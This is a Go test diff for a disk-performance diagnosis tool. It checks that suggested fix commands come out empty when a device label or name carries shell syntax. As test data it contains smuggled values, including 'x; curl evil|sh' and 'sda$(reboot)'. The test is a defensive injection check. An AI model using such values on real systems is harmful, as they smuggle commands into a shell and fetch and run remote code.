@@ -50,3 +50,39 @@ func TestIOLimitCommand(t *testing.T) {
 		}
 	}
 }
+
+// Names in a recording of somebody else may be any text: no command holds one that
+// means more to a shell, and no command ends where its name should be.
+func TestCommandsHoldOnlyPlainNames(t *testing.T) {
+	for label, want := range map[string]string{
+		"luks-home":       "cryptsetup refresh --perf-no_read_workqueue --perf-no_write_workqueue luks-home; cryptsetup benchmark",
+		"x; curl evil|sh": "",
+		"":                "",
+	} {
+		m := newMachine()
+		m.slow("sda", "read", "read", 4000, 0.0005)
+		m.crypt(0.8)
+		m.is(sample.DeviceLabel, "dm-0", label, 1)
+		r := m.judge()
+		if r.Primary != EncryptionCPU || r.Findings[0].Advice[0].Command != want || r.Findings[0].Advice[0].Do == "" {
+			t.Errorf("%q: %s, %+v", label, r.Primary, r.Findings[0].Advice)
+		}
+	}
+	var c Case
+	for device, want := range map[string]string{"nvme0n1": "nvme set-feature /dev/nvme0n1 --feature-id 6 --value 1", "vda": "echo 'write back' > /sys/block/vda/cache_type",
+		"sda": "hdparm -W1 /dev/sda", "v": "hdparm -W1 /dev/v", "": "", "sda$(reboot)": ""} {
+		if got := c.cacheOnCommand(device); got != want {
+			t.Errorf("%q: %q", device, got)
+		}
+	}
+	for _, name := range []string{"", "a b", "$(x)", "-rf"} {
+		if a := (Advice{Do: "look"}).with("look "+name, "sda", name); a.Command != "" {
+			t.Errorf("%q: %q", name, a.Command)
+		}
+	}
+	for _, a := range c.piecesAdvice("", 0, &Culprit{}, promise{}) {
+		if a.Command != "" {
+			t.Errorf("no file and no file system are known: %q", a.Command)
+		}
+	}
+}
